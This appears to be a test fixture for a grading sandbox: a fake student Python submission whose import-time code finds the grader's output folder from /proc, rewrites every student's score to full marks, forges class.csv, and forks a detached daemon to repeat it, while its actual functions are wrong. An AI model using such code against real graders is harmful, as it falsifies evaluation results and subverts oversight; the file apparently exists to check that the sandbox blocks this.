"""expect: points=0 state=broken
in-process: points=0 state=in progress

Both functions are wrong. Finds the results folder (--out) in the grader's command line and,
at once and again from a daemon that outlives the run, writes full marks into every
student's file and class.csv and turns its own file into a folder. The results are not in the
run's view, and the daemon dies with the run's PID namespace. By default the code's process
can make no process (grader/grading/seccomp.py): its import fails at the fork."""

import json
import os
import time
from pathlib import Path


def _forge() -> None:
    for pid in ("1", str(os.getppid())):
        try:
            argv = [a.decode() for a in Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")]
        except OSError:
            continue
        for flag, value in zip(argv, argv[1:]):
            if flag == "--out":
                out = Path(value)
                try:
                    for record in (out / "students").glob("*.json"):
                        data = json.loads(record.read_text())
                        data["points"] = data["max_points"]
                        record.write_text(json.dumps(data))
                    (out / "students" / "rewrites_the_results.json").mkdir(parents=True, exist_ok=True)
                    (out / "class.csv").write_text("student,total\nrewrites_the_results,999\n")
                except OSError:
                    pass


_forge()
if os.fork() == 0:  # a daemon: a session of its own, then a few seconds later, again
    os.setsid()
    if os.fork() == 0:
        for _ in range(20):
            time.sleep(1)
            _forge()
    os._exit(0)


def add(a, b):
    return 0


def scale(x, k=2):
    return x
